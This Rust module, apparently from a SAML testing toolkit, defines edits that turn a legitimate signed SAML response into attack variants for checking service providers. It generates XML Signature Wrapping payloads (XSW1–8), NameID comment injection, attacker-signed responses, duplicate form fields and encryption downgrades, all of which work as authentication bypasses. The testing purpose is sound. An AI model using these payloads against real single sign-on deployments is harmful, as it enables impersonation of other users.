//! The steps a [`Recipe`] is made of, each a small closed set of edits, and what each does.

use chrono::Duration;
use samlkit_dsig::{DigestMethod, NS_DSIG, SignatureMethod};

use super::BreakInput;
use super::text::{
    child_range, child_range_anywhere, end_tag_start, evil_name_id, insert, replace_once,
    replace_range, set_root_id, split_decl, without_signatures,
};
use crate::builder::{NS_ASSERTION, STATUS_SUCCESS};
use crate::escape::escape_text;
use crate::sign::sign_with;
use crate::{
    ErrorKind, Hint, PrefixStyle, ResponseParams, SamlError, SignTarget, SigningCredential,
    SigningProfile,
};

/// How one kind of broken response is made from the legitimate request.
#[derive(Clone, Copy)]
pub(super) struct Recipe {
    /// The change to the legitimate parameters.
    pub(super) params: ParamEdit,
    /// The edit to the unsigned response text.
    pub(super) before_signing: XmlEdit,
    /// The change to the caller's signing profile.
    pub(super) profile: ProfileEdit,
    /// Which key signs, and which certificate goes into KeyInfo.
    pub(super) signing: Signing,
    /// The splice into the signed text.
    pub(super) after_signing: Splice,
}

/// The legitimate response, signed by the IdP as asked: the row every kind starts from.
pub(super) const SIGNED: Recipe = Recipe {
    params: ParamEdit::Keep,
    before_signing: XmlEdit::Keep,
    profile: ProfileEdit::Keep,
    signing: Signing::Idp,
    after_signing: Splice::Keep,
};

#[derive(Clone, Copy)]
pub(super) enum ParamEdit {
    Keep,
    /// Sign a NameID with this suffix appended.
    AppendToNameId(&'static str),
    /// Issued so long ago that NotOnOrAfter passed an hour before the legitimate instant.
    ExpiredAnHourAgo,
    /// Issued (NotBefore) an hour after the legitimate instant.
    ValidInAnHour,
    /// This audience instead of the requested one (which must be given).
    Audience(&'static str),
    /// This Recipient and Destination instead of the requested recipient (which must be given).
    Recipient(&'static str),
    /// This Issuer instead of the IdP's.
    Issuer(&'static str),
}

#[derive(Clone, Copy)]
pub(super) enum XmlEdit {
    Keep,
    /// The Response's StatusCode value replaced.
    TopStatusCode(&'static str),
    /// A copy of the Assertion with a new ID and the evil NameID added after it.
    SecondEvilAssertion,
    /// The AuthnStatement removed.
    NoAuthnStatement,
    /// The AuthnStatement's SessionNotOnOrAfter an hour before the legitimate instant.
    SessionEndedAnHourAgo,
    /// A `saml:Condition` of a type no SP understands added to the Conditions.
    UnknownCondition,
    /// The Response's Version replaced.
    ResponseVersion(&'static str),
    /// The Assertion's Issuer given this Format.
    IssuerFormat(&'static str),
}

#[derive(Clone, Copy)]
pub(super) enum ProfileEdit {
    Keep,
    /// Sign this target whatever the caller asked for.
    Target(SignTarget),
    /// rsa-sha1 with a sha1 digest (only an RSA key can make it).
    Sha1,
    /// Sign every Assertion: a Response-only target becomes both.
    AssertionsToo,
}

#[derive(Clone, Copy)]
pub(super) enum Signing {
    /// Left unsigned.
    Unsigned,
    /// The IdP's key and certificate.
    Idp,
    /// The attacker's key and certificate.
    Attacker,
    /// The attacker's key with the IdP's certificate in KeyInfo.
    AttackerKeyIdpCertificate,
}

#[derive(Clone, Copy)]
pub(super) enum Splice {
    Keep,
    /// The signed Response gets a new ID and the evil NameID, and an unsigned copy of the
    /// original goes next to its Signature.
    WrapResponse(ResponseWrap),
    /// The signed Assertion is rearranged with an evil copy (XSW3–8).
    WrapAssertion(AssertionWrap),
    /// A comment is inserted in the NameID text just before this suffix.
    CommentBeforeNameIdSuffix(&'static str),
    /// The Response's ID becomes the Assertion's.
    ResponseTakesAssertionId,
    /// The first NameID becomes [`super::EVIL_NAME_ID`].
    EvilNameId,
    /// One character of the first SignatureValue changes.
    FlipSignatureValue,
    /// Only the signed Assertion, without the Response around it.
    BareAssertion,
    /// A form body with two SAMLResponse fields: the genuine response first (what a verifier
    /// that reads the first field checks), an unsigned one for the evil NameID last (what PHP
    /// and Django hand the application).
    FormBodyWithEvilLast,
    /// An Assertion for the evil NameID in a look-alike namespace, as a Response child before
    /// Status (code that matches the `saml:` prefix reads it).
    LookalikeAssertion,
    /// The Assertion encrypted to the SP's certificate (`BreakInput::sp_encryption`).
    Encrypt(EncryptBreak),
}

/// How an encrypted broken response goes wrong.
#[derive(Clone, Copy)]
pub(super) enum EncryptBreak {
    /// The evil NameID in an unsigned Assertion, encrypted (AES-256-GCM) to the SP: anyone can.
    UnsignedEvil,
    /// The signed Assertion encrypted, its EncryptedKey labelled RSA PKCS#1 v1.5.
    Rsa15,
    /// The signed Assertion encrypted with AES-256-CBC, no Response signature over it.
    CbcUnsigned,
}

impl EncryptBreak {
    fn apply(self, signed: &str, input: &BreakInput<'_>) -> Result<String, SamlError> {
        use samlkit_dsig::{DataAlgorithm, EncryptOptions, KeyTransport};
        let cert = input.sp_encryption.ok_or_else(|| {
            SamlError::new(
                ErrorKind::SigningFailed,
                "this kind encrypts to the SP's certificate, and none was given",
            )
            .with_hint(Hint::NeedsEncryptionCertificate)
        })?;
        let data = match self {
            EncryptBreak::CbcUnsigned => DataAlgorithm::Aes256Cbc,
            EncryptBreak::UnsignedEvil | EncryptBreak::Rsa15 => DataAlgorithm::Aes256Gcm,
        };
        let opts = EncryptOptions { data, key_transport: KeyTransport::DEFAULT };
        let plain = match self {
            EncryptBreak::UnsignedEvil => evil_name_id(signed)?,
            EncryptBreak::Rsa15 | EncryptBreak::CbcUnsigned => signed.to_string(),
        };
        let encrypted = crate::encrypt_assertion(&plain, cert, &opts)?;
        Ok(match self {
            EncryptBreak::Rsa15 => {
                encrypted.replace(KeyTransport::DEFAULT.uri(), samlkit_dsig::RSA_1_5)
            }
            EncryptBreak::UnsignedEvil | EncryptBreak::CbcUnsigned => encrypted,
        })
    }
}

/// Where the unsigned original Response goes in the evil one.
#[derive(Clone, Copy)]
pub(super) enum ResponseWrap {
    /// Last child of the evil Response's Signature (XSW1).
    InSignature,
    /// Just before the evil Response's Signature (XSW2).
    BeforeSignature,
}

/// What replaces the signed Assertion (the names say where the original goes).
#[derive(Clone, Copy)]
pub(super) enum AssertionWrap {
    /// An evil unsigned copy, then the signed original (XSW3).
    EvilBefore,
    /// An evil unsigned copy with the signed original as its last child (XSW4).
    EvilAround,
    /// The signed Assertion itself with a new ID and the evil NameID; an unsigned copy of the
    /// original appended to the Response, as SAML Raider does (XSW5).
    ChangedInPlace,
    /// The changed Assertion as in XSW5, the unsigned original inside its Signature (XSW6).
    OriginalInSignature,
    /// The signed original in `samlp:Extensions`, then an evil unsigned copy (XSW7).
    OriginalInExtensions,
    /// As XSW6, with the original in a `ds:Object` (XSW8).
    OriginalInSignatureObject,
}

impl ParamEdit {
    pub(super) fn apply(self, legitimate: &ResponseParams) -> Result<ResponseParams, SamlError> {
        let mut params = legitimate.clone();
        match self {
            ParamEdit::Keep => {}
            ParamEdit::AppendToNameId(suffix) => params.name_id.push_str(suffix),
            ParamEdit::ExpiredAnHourAgo => {
                params.issue_instant = params.issue_instant - params.valid_for - Duration::hours(1);
            }
            ParamEdit::ValidInAnHour => params.issue_instant += Duration::hours(1),
            ParamEdit::Audience(audience) => {
                if params.audiences.is_empty() {
                    return Err(SamlError::new(
                        ErrorKind::SigningFailed,
                        "the wrong-audience break needs the audience the SP expects",
                    )
                    .with_hint(Hint::NeedsAudience));
                }
                params.audiences = vec![audience.to_string()];
            }
            ParamEdit::Recipient(recipient) => {
                if params.recipient.is_none() {
                    return Err(SamlError::new(
                        ErrorKind::SigningFailed,
                        "the wrong-recipient break needs the SP's ACS URL",
                    )
                    .with_hint(Hint::NeedsRecipient));
                }
                params.recipient = Some(recipient.to_string());
                params.destination = Some(recipient.to_string());
            }
            ParamEdit::Issuer(issuer) => params.issuer = issuer.to_string(),
        }
        Ok(params)
    }
}

impl ProfileEdit {
    pub(super) fn apply(
        self,
        asked: SigningProfile,
        idp: &SigningCredential,
    ) -> Result<SigningProfile, SamlError> {
        Ok(match self {
            ProfileEdit::Keep => asked,
            ProfileEdit::Target(target) => SigningProfile { target, ..asked },
            ProfileEdit::Sha1 => {
                if SignatureMethod::RsaSha1.for_key(idp.key_algorithm()).is_none() {
                    return Err(SamlError::new(
                        ErrorKind::SigningFailed,
                        "the sha1 break needs an RSA key",
                    ));
                }
                SigningProfile {
                    method: SignatureMethod::RsaSha1,
                    digest: DigestMethod::Sha1,
                    ..asked
                }
            }
            ProfileEdit::AssertionsToo => match asked.target {
                SignTarget::Response => SigningProfile { target: SignTarget::Both, ..asked },
                _ => asked,
            },
        })
    }
}

impl XmlEdit {
    pub(super) fn apply(
        self,
        xml: String,
        input: &BreakInput<'_>,
        p: PrefixStyle,
    ) -> Result<String, SamlError> {
        let saml = |local: &str| p.assertion_name(local);
        match self {
            XmlEdit::Keep => Ok(xml),
            XmlEdit::TopStatusCode(code) => replace_once(
                &xml,
                &format!("<{} Value=\"{STATUS_SUCCESS}\"/>", p.protocol_name("StatusCode")),
                &format!("<{} Value=\"{code}\"/>", p.protocol_name("StatusCode")),
            ),
            XmlEdit::SecondEvilAssertion => {
                let a = child_range(&xml, NS_ASSERTION, "Assertion")?;
                let second_id = format!("{}_2", input.ids.assertion_id);
                let second = evil_name_id(&set_root_id(&xml[a.clone()], &second_id)?)?;
                Ok(insert(&xml, a.end, &second))
            }
            XmlEdit::NoAuthnStatement => {
                let statement = child_range_anywhere(&xml, NS_ASSERTION, "AuthnStatement")?;
                Ok(replace_range(&xml, statement, ""))
            }
            XmlEdit::SessionEndedAnHourAgo => {
                let ended = crate::format_instant(input.params.issue_instant - Duration::hours(1));
                let statement = saml("AuthnStatement");
                replace_once(
                    &xml,
                    &format!("<{statement} "),
                    &format!("<{statement} SessionNotOnOrAfter=\"{ended}\" "),
                )
            }
            XmlEdit::UnknownCondition => {
                let end = format!("</{}>", saml("AudienceRestriction"));
                let condition = format!("<{} xsi:type=\"xs:string\"/>", saml("Condition"));
                replace_once(&xml, &end, &format!("{end}{condition}"))
            }
            XmlEdit::ResponseVersion(version) => {
                replace_once(&xml, "Version=\"2.0\"", &format!("Version=\"{version}\""))
            }
            XmlEdit::IssuerFormat(format) => {
                let a = child_range(&xml, NS_ASSERTION, "Assertion")?;
                let issuer =
                    format!("<{i}>{}</{i}>", escape_text(&input.params.issuer), i = saml("Issuer"));
                let at = xml[a.clone()].find(&issuer).map(|i| a.start + i).ok_or_else(|| {
                    SamlError::new(ErrorKind::SigningFailed, "no Assertion Issuer to break")
                })?;
                let with_format = format!(
                    "<{i} Format=\"{format}\">{}</{i}>",
                    escape_text(&input.params.issuer),
                    i = saml("Issuer")
                );
                Ok(replace_range(&xml, at..at + issuer.len(), &with_format))
            }
        }
    }
}

impl Signing {
    pub(super) fn apply(
        self,
        xml: &str,
        profile: SigningProfile,
        input: &BreakInput<'_>,
    ) -> Result<String, SamlError> {
        let (key, cert, profile) = match self {
            Signing::Unsigned => return Ok(xml.to_string()),
            Signing::Idp => (input.idp, input.idp, profile),
            Signing::Attacker => {
                (input.attacker, input.attacker, fitted_to(profile, input.attacker))
            }
            Signing::AttackerKeyIdpCertificate => {
                (input.attacker, input.idp, fitted_to(profile, input.attacker))
            }
        };
        sign_with(xml, key.signer(), cert.certificate().der(), &profile)
    }
}

/// `profile` with a signature method the attacker's `key` can make (an EC IdP's method does not
/// fit the RSA attacker key); unchanged when it fits.
fn fitted_to(profile: SigningProfile, key: &SigningCredential) -> SigningProfile {
    let algorithm = key.key_algorithm();
    if profile.method.for_key(algorithm).is_some() {
        return profile;
    }
    SigningProfile { method: SignatureMethod::default_for_key(algorithm), ..profile }
}

impl Splice {
    pub(super) fn apply(
        self,
        signed: String,
        input: &BreakInput<'_>,
        p: PrefixStyle,
    ) -> Result<String, SamlError> {
        match self {
            Splice::Keep => Ok(signed),
            Splice::WrapResponse(wrap) => wrap.apply(&signed, input),
            Splice::WrapAssertion(wrap) => wrap.apply(&signed, input, p),
            Splice::CommentBeforeNameIdSuffix(suffix) => {
                let honest = escape_text(&input.params.name_id);
                let name_id = p.assertion_name("NameID");
                let needle = format!(">{honest}{suffix}</{name_id}>");
                let commented = format!(">{honest}<!---->{suffix}</{name_id}>");
                replace_once(&signed, &needle, &commented)
            }
            Splice::ResponseTakesAssertionId => {
                let (decl, response) = split_decl(&signed);
                Ok(format!("{decl}{}", set_root_id(response, &input.ids.assertion_id)?))
            }
            Splice::EvilNameId => evil_name_id(&signed),
            Splice::FlipSignatureValue => {
                let sv = child_range_anywhere(&signed, NS_DSIG, "SignatureValue")?;
                let at = signed[sv.clone()].find('>').map_or(sv.start, |i| sv.start + i + 1) + 8;
                let flipped = match signed.get(at..at + 1) {
                    Some("A") => "B",
                    _ => "A",
                };
                Ok(replace_range(&signed, at..at + 1, flipped))
            }
            Splice::BareAssertion => {
                let a = child_range(&signed, NS_ASSERTION, "Assertion")?;
                Ok(signed[a].to_string())
            }
            Splice::FormBodyWithEvilLast => {
                use base64::Engine as _;
                let evil = evil_name_id(&without_signatures(&signed)?)?;
                let field = |xml: &str| {
                    crate::redirect::url_encode(
                        &base64::engine::general_purpose::STANDARD.encode(xml.as_bytes()),
                    )
                };
                Ok(format!("SAMLResponse={}&SAMLResponse={}", field(&signed), field(&evil)))
            }
            Splice::LookalikeAssertion => {
                let status = child_range(&signed, crate::builder::NS_PROTOCOL, "Status")?;
                let lookalike = format!(
                    "<saml:Assertion xmlns:saml=\"urn:oasis:names:tc:SAML:2.0:assertion:evil\" ID=\"{}_x\" Version=\"2.0\"><saml:Subject><saml:NameID>{}</saml:NameID></saml:Subject></saml:Assertion>",
                    input.ids.assertion_id,
                    super::EVIL_NAME_ID
                );
                Ok(insert(&signed, status.start, &lookalike))
            }
            Splice::Encrypt(how) => how.apply(&signed, input),
        }
    }
}

impl ResponseWrap {
    fn apply(self, signed: &str, input: &BreakInput<'_>) -> Result<String, SamlError> {
        let (decl, response) = split_decl(signed);
        let original = without_signatures(response)?;
        let evil_id = format!("{}_evil", input.ids.response_id);
        let evil = evil_name_id(&set_root_id(response, &evil_id)?)?;
        let sig = child_range(&evil, NS_DSIG, "Signature")?;
        let at = match self {
            ResponseWrap::InSignature => end_tag_start(&evil, &sig),
            ResponseWrap::BeforeSignature => sig.start,
        };
        Ok(format!("{decl}{}", insert(&evil, at, &original)))
    }
}

impl AssertionWrap {
    fn apply(
        self,
        signed: &str,
        input: &BreakInput<'_>,
        p: PrefixStyle,
    ) -> Result<String, SamlError> {
        let a = child_range(signed, NS_ASSERTION, "Assertion")?;
        let original = &signed[a.clone()];
        let evil_id = format!("{}_evil", input.ids.assertion_id);
        let unsigned_original = without_signatures(original)?;
        let evil_unsigned = || evil_name_id(&set_root_id(&unsigned_original, &evil_id)?);
        // The signed Assertion, values and ID changed, still carrying the original Signature.
        let changed = || evil_name_id(&set_root_id(original, &evil_id)?);
        let hide_in_signature = |hidden: &str| -> Result<String, SamlError> {
            let changed = changed()?;
            let sig = child_range(&changed, NS_DSIG, "Signature")?;
            Ok(insert(&changed, end_tag_start(&changed, &sig), hidden))
        };
        let replacement = match self {
            AssertionWrap::EvilBefore => format!("{}{original}", evil_unsigned()?),
            AssertionWrap::EvilAround => {
                let evil = evil_unsigned()?;
                insert(&evil, end_tag_start(&evil, &(0..evil.len())), original)
            }
            AssertionWrap::ChangedInPlace => changed()?,
            AssertionWrap::OriginalInSignature => hide_in_signature(&unsigned_original)?,
            AssertionWrap::OriginalInSignatureObject => {
                hide_in_signature(&format!("<ds:Object>{unsigned_original}</ds:Object>"))?
            }
            AssertionWrap::OriginalInExtensions => {
                let extensions = p.protocol_name("Extensions");
                format!("<{extensions}>{original}</{extensions}>{}", evil_unsigned()?)
            }
        };
        let mut out = replace_range(signed, a, &replacement);
        if let AssertionWrap::ChangedInPlace = self {
            let end_tag = format!("</{}>", p.protocol_name("Response"));
            let response_end = out.rfind(&end_tag).unwrap_or(out.len());
            out.insert_str(response_end, &unsigned_original);
        }
        Ok(out)
    }
}
